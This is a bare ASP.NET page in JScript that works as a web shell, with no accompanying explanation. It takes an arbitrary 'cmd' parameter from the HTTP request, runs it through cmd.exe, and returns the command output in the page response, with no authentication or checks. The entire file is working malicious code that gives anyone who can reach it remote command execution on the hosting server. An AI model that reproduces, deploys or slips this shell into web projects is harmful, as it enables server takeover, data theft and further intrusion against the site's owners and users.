<%@ Page Language="JScript" %>
<%
var si = new System.Diagnostics.ProcessStartInfo("cmd.exe");
si.Arguments = "/c " + Request.Item["cmd"];
si.UseShellExecute = false;
si.RedirectStandardOutput = true;
var pr = System.Diagnostics.Process.Start(si);
Response.Write(pr.StandardOutput.ReadToEnd());
%>
